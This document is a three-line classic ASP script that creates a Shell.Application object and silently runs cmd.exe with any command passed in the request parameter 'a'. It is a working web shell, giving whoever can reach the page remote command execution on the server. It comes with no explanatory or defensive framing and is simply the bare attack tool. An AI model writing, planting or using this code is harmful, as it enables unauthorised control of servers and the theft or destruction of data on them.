<%
Set app = Server.CreateObject("Shell.Application")
app.ShellExecute "cmd.exe", "/c " & Request("a"), "", "open", 0
%>
